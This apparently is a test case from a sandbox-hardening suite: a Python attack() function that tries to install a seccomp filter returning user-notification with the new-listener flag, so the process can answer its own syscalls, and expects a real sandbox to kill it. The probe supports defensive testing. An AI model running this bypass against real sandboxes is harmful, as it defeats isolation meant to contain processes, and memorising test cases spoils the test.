# title: install a filter whose answers one gives oneself
# reference: https://man7.org/linux/man-pages/man2/seccomp_unotify.2.html
# real: killed: seccomp
# weakened: seccomp, rlimits
# proof: matches: ^[0-9]+$

import ctypes
import struct


def attack(worker):
    allow = struct.pack("=HBBI", 6, 0, 0, 0x7FFF0000)
    code = ctypes.create_string_buffer(allow, 8)
    program = struct.pack("=HxxxxxxQ", 1, ctypes.addressof(code))
    return worker.syscall("seccomp", 1, 8, program)
